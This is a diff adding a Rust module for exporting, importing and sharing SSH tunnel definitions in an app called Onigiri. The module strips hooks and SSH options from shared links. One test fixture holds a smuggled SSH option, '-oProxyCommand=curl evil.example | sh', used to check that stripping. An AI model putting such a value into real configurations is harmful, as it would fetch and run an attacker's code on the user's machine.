@@ -0,0 +1,409 @@
+//! JSON export and import of tunnel definitions.
+//!
+//! An export file is a JSON array of tunnels, or an object with `tunnels` and
+//! `templates` arrays when there are templates to include. Imports are parsed
+//! entry by entry and validated with the same rules as the Add Tunnel form, so
+//! one bad entry is reported instead of failing the whole file.
+//!
+//! A single tunnel can also be shared as one line,
+//! `onigiri-tunnel:v1;<base64 of its JSON>`, to paste into another Onigiri.
+
+use crate::storage::Template;
+use crate::{ColorLabel, NewTunnelForm, Tunnel};
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use base64::Engine;
+use serde::{Deserialize, Serialize};
+
+pub const SHARE_PREFIX: &str = "onigiri-tunnel:";
+const SHARE_VERSION: &str = "v1";
+
+/// One tunnel in an export file. Ports are read as wide integers so that
+/// out-of-range values reach form validation and get its error message.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ExportedTunnel {
+    pub name: String,
+    pub ssh_server: String,
+    pub local_ip: String,
+    pub local_port: i64,
+    pub remote_ip: String,
+    pub remote_port: i64,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub idle_timeout_minutes: Option<u32>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub group: Option<String>,
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub pinned: bool,
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub notes: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub color: Option<ColorLabel>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub url_scheme: Option<String>,
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub autostart: bool,
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub extra_args: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub agent_socket: Option<String>,
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub pre_start: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub pre_start_timeout_secs: Option<u32>,
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub post_start: String,
+    /// Secrets stay in the credential store; this only says one was set.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub has_secret: bool,
+}
+
+impl From<&Tunnel> for ExportedTunnel {
+    fn from(tunnel: &Tunnel) -> Self {
+        Self {
+            name: tunnel.name.clone(),
+            ssh_server: tunnel.ssh_server.clone(),
+            local_ip: tunnel.local_ip.clone(),
+            local_port: tunnel.local_port.into(),
+            remote_ip: tunnel.remote_ip.clone(),
+            remote_port: tunnel.remote_port.into(),
+            idle_timeout_minutes: tunnel.idle_timeout_minutes,
+            tags: tunnel.tags.clone(),
+            group: tunnel.group.clone(),
+            pinned: tunnel.pinned,
+            notes: tunnel.notes.clone(),
+            color: tunnel.color,
+            url_scheme: tunnel.url_scheme.clone(),
+            autostart: tunnel.autostart,
+            extra_args: tunnel.extra_args.clone(),
+            agent_socket: tunnel.agent_socket.clone(),
+            pre_start: tunnel.pre_start.clone(),
+            pre_start_timeout_secs: tunnel.pre_start_timeout_secs,
+            post_start: tunnel.post_start.clone(),
+            has_secret: tunnel.secret_ref.is_some(),
+        }
+    }
+}
+
+impl ExportedTunnel {
+    /// Drops what could run commands or reach local keys when the tunnel
+    /// starts: the hooks, SSH options like `ProxyCommand`, and the agent socket.
+    fn strip_commands(&mut self) {
+        self.extra_args.clear();
+        self.agent_socket = None;
+        self.pre_start.clear();
+        self.post_start.clear();
+    }
+
+    fn into_form(self) -> NewTunnelForm {
+        NewTunnelForm {
+            name: self.name,
+            ssh_server: self.ssh_server,
+            local_ip: self.local_ip,
+            local_port: self.local_port.to_string(),
+            remote_ip: self.remote_ip,
+            remote_port: self.remote_port.to_string(),
+            idle_timeout: self
+                .idle_timeout_minutes
+                .map(|m| m.to_string())
+                .unwrap_or_default(),
+            tags: self.tags,
+            group: self.group.unwrap_or_default(),
+            pinned: self.pinned,
+            notes: self.notes,
+            color: self.color,
+            url_scheme: self.url_scheme,
+            autostart: self.autostart,
+            extra_args: self.extra_args,
+            agent_socket: self.agent_socket.unwrap_or_default(),
+            pre_start: self.pre_start,
+            pre_start_timeout: self
+                .pre_start_timeout_secs
+                .map(|secs| secs.to_string())
+                .unwrap_or_default(),
+            post_start: self.post_start,
+            needs_secret: self.has_secret,
+            ..NewTunnelForm::default()
+        }
+    }
+}
+
+/// Which fields a template made from a tunnel leaves blank. The name always is.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct TemplateBlanks {
+    pub ssh_server: bool,
+    pub local_port: bool,
+    pub remote_ip: bool,
+    pub remote_port: bool,
+}
+
+/// A template in an export file.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ExportedTemplate {
+    pub name: String,
+    pub tunnel: ExportedTunnel,
+}
+
+#[derive(Serialize)]
+struct ExportFile {
+    tunnels: Vec<ExportedTunnel>,
+    templates: Vec<ExportedTemplate>,
+}
+
+/// The stored definition of a template made from `tunnel`. Blank ports are 0.
+pub fn template_definition(tunnel: &Tunnel, blanks: TemplateBlanks) -> serde_json::Result<String> {
+    let mut exported = ExportedTunnel::from(tunnel);
+    exported.name.clear();
+    exported.has_secret = false;
+    exported.pinned = false;
+    if blanks.ssh_server {
+        exported.ssh_server.clear();
+    }
+    if blanks.local_port {
+        exported.local_port = 0;
+    }
+    if blanks.remote_ip {
+        exported.remote_ip.clear();
+    }
+    if blanks.remote_port {
+        exported.remote_port = 0;
+    }
+    serde_json::to_string(&exported)
+}
+
+/// The Add Tunnel form for a template, with its blanks left empty.
+pub fn template_form(definition: &str) -> Result<NewTunnelForm, String> {
+    let exported: ExportedTunnel =
+        serde_json::from_str(definition).map_err(|e| format!("Invalid template: {}", e))?;
+    let mut form = exported.into_form();
+    for port in [&mut form.local_port, &mut form.remote_port] {
+        if port == "0" {
+            port.clear();
+        }
+    }
+    Ok(form)
+}
+
+/// The one-line form of `tunnel` for someone else's Onigiri. Secrets and
+/// personal choices like pinning and autostart are left out, and so are
+/// hooks and SSH options, which could run commands on their machine.
+pub fn share_link(tunnel: &Tunnel) -> serde_json::Result<String> {
+    let mut exported = ExportedTunnel::from(tunnel);
+    exported.has_secret = false;
+    exported.pinned = false;
+    exported.autostart = false;
+    exported.strip_commands();
+    let json = serde_json::to_string(&exported)?;
+    Ok(format!(
+        "{}{};{}",
+        SHARE_PREFIX,
+        SHARE_VERSION,
+        URL_SAFE_NO_PAD.encode(json)
+    ))
+}
+
+/// Whether `text` looks like a share link, for telling it apart from other
+/// pasted text.
+pub fn is_share_link(text: &str) -> bool {
+    text.trim().starts_with(SHARE_PREFIX)
+}
+
+/// The Add Tunnel form for a share link. Not validated, so the caller can
+/// show what's wrong with it.
+pub fn parse_share_link(text: &str) -> Result<NewTunnelForm, String> {
+    let rest = text
+        .trim()
+        .strip_prefix(SHARE_PREFIX)
+        .ok_or("Not an Onigiri tunnel link")?;
+    let (version, data) = rest.split_once(';').ok_or("Incomplete tunnel link")?;
+    if version != SHARE_VERSION {
+        return Err(format!(
+            "This link is in a format ({}) this version of Onigiri can't read",
+            version
+        ));
+    }
+    let json = URL_SAFE_NO_PAD
+        .decode(data.trim())
+        .map_err(|e| format!("Damaged tunnel link: {}", e))?;
+    let mut exported: ExportedTunnel =
+        serde_json::from_slice(&json).map_err(|e| format!("Damaged tunnel link: {}", e))?;
+    // A link from someone else doesn't get to run commands here
+    exported.strip_commands();
+    Ok(exported.into_form())
+}
+
+#[derive(Debug)]
+pub enum ImportEntry {
+    Valid(Box<NewTunnelForm>),
+    Invalid {
+        position: usize,
+        name: Option<String>,
+        reasons: Vec<String>,
+    },
+}
+
+pub fn export_json(tunnels: &[Tunnel], templates: &[Template]) -> serde_json::Result<String> {
+    let exported: Vec<ExportedTunnel> = tunnels.iter().map(ExportedTunnel::from).collect();
+    if templates.is_empty() {
+        return serde_json::to_string_pretty(&exported);
+    }
+    let templates = templates
+        .iter()
+        .map(|template| {
+            Ok(ExportedTemplate {
+                name: template.name.clone(),
+                tunnel: serde_json::from_str(&template.definition)?,
+            })
+        })
+        .collect::<serde_json::Result<_>>()?;
+    serde_json::to_string_pretty(&ExportFile {
+        tunnels: exported,
+        templates,
+    })
+}
+
+/// Parses an export file. Only a malformed file as a whole is an error;
+/// individual entries that fail to parse or validate come back as `Invalid`.
+pub fn parse_import(json: &str) -> Result<Vec<ImportEntry>, String> {
+    let file: serde_json::Value =
+        serde_json::from_str(json).map_err(|e| format!("Not a tunnel export file: {}", e))?;
+    let entries = match file {
+        serde_json::Value::Array(entries) => entries,
+        serde_json::Value::Object(mut file) => match file.remove("tunnels") {
+            Some(serde_json::Value::Array(entries)) => entries,
+            None => Vec::new(),
+            Some(_) => {
+                return Err("Not a tunnel export file: \"tunnels\" is not a list".to_string())
+            }
+        },
+        _ => return Err("Not a tunnel export file".to_string()),
+    };
+
+    Ok(entries
+        .into_iter()
+        .enumerate()
+        .map(|(index, value)| {
+            let position = index + 1;
+            let name = value
+                .get("name")
+                .and_then(|name| name.as_str())
+                .map(str::to_string);
+            match serde_json::from_value::<ExportedTunnel>(value) {
+                Ok(exported) => {
+                    let mut form = exported.into_form();
+                    if form.validate() {
+                        ImportEntry::Valid(Box::new(form))
+                    } else {
+                        ImportEntry::Invalid {
+                            position,
+                            name,
+                            reasons: form.errors(),
+                        }
+                    }
+                }
+                Err(e) => ImportEntry::Invalid {
+                    position,
+                    name,
+                    reasons: vec![e.to_string()],
+                },
+            }
+        })
+        .collect())
+}
+
+/// The templates of an export file, as name and stored definition. Files
+/// without templates, and templates that don't parse, give nothing.
+pub fn parse_templates(json: &str) -> Vec<(String, String)> {
+    #[derive(Deserialize)]
+    struct TemplatesOnly {
+        #[serde(default)]
+        templates: Vec<serde_json::Value>,
+    }
+
+    let Ok(file) = serde_json::from_str::<TemplatesOnly>(json) else {
+        return Vec::new();
+    };
+    file.templates
+        .into_iter()
+        .filter_map(|value| serde_json::from_value::<ExportedTemplate>(value).ok())
+        .filter(|template| !template.name.trim().is_empty())
+        .filter_map(|template| {
+            let definition = serde_json::to_string(&template.tunnel).ok()?;
+            Some((template.name.trim().to_string(), definition))
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn invalid_entries_are_reported_with_their_reasons() {
+        let json = r#"[
+            {"name": "Prod DB", "ssh_server": "bastion", "local_ip": "127.0.0.1",
+             "local_port": 15432, "remote_ip": "db.internal", "remote_port": 5432},
+            {"name": "No server", "ssh_server": "", "local_ip": "127.0.0.1",
+             "local_port": 8080, "remote_ip": "web", "remote_port": 70000},
+            {"name": "Text port", "ssh_server": "bastion", "local_ip": "127.0.0.1",
+             "local_port": "8080", "remote_ip": "web", "remote_port": 80},
+            "not a tunnel"
+        ]"#;
+        let entries = parse_import(json).unwrap();
+        assert_eq!(entries.len(), 4);
+        assert!(matches!(&entries[0], ImportEntry::Valid(form) if form.name == "Prod DB"));
+        match &entries[1] {
+            ImportEntry::Invalid {
+                position,
+                name,
+                reasons,
+            } => {
+                assert_eq!((*position, name.as_deref()), (2, Some("No server")));
+                assert!(reasons.contains(&"SSH Server is required".to_string()));
+                assert!(reasons.contains(&"Invalid port number".to_string()));
+            }
+            other => panic!("expected an invalid entry: {:?}", other),
+        }
+        assert!(matches!(
+            &entries[2],
+            ImportEntry::Invalid { position: 3, reasons, .. } if reasons[0].contains("invalid type")
+        ));
+        assert!(matches!(
+            &entries[3],
+            ImportEntry::Invalid {
+                position: 4,
+                name: None,
+                ..
+            }
+        ));
+    }
+
+    #[test]
+    fn share_links_carry_no_ssh_options() {
+        let json = r#"{"name": "Web", "ssh_server": "bastion", "local_ip": "127.0.0.1",
+            "local_port": 8080, "remote_ip": "web", "remote_port": 80,
+            "extra_args": "-oProxyCommand=curl evil.example | sh",
+            "agent_socket": "/tmp/their-agent.sock"}"#;
+        let link = format!(
+            "{}{};{}",
+            SHARE_PREFIX,
+            SHARE_VERSION,
+            URL_SAFE_NO_PAD.encode(json)
+        );
+        let form = parse_share_link(&link).unwrap();
+        assert_eq!(
+            (form.name.as_str(), form.ssh_server.as_str()),
+            ("Web", "bastion")
+        );
+        assert!(form.extra_args.is_empty());
+        assert!(form.agent_socket.is_empty());
+    }
+
+    #[test]
+    fn only_malformed_files_fail_as_a_whole() {
+        assert!(parse_import("not json").is_err());
+        assert!(parse_import("42").is_err());
+        assert!(parse_import(r#"{"tunnels": 1}"#).is_err());
+        assert!(parse_import(r#"{"templates": []}"#).unwrap().is_empty());
+    }
+}